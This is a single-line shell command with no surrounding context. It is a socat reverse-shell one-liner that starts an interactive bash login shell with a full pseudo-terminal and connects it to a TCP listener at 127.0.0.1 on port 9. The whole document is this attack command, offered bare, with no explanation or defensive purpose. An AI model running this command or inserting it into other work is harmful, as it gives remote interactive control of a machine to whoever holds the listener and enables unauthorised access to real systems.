socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:127.0.0.1:9
